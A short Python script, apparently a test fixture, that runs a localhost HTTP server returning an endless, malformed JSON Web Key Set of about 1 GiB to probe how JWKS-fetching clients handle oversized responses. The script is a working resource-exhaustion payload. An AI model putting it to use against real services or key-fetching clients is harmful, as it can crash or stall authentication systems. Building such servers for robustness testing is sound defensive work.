# A JWK Set that never ends.
import http.server, socketserver, sys
CHUNK = b'{"kty":"RSA","kid":"x","n":"' + b'A' * 65536
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "application/json"); self.end_headers()
        try:
            self.wfile.write(b'{"keys":[')
            for _ in range(16384):  # 1 GiB
                self.wfile.write(CHUNK)
        except (BrokenPipeError, ConnectionResetError):
            pass
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer): daemon_threads = True
S(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
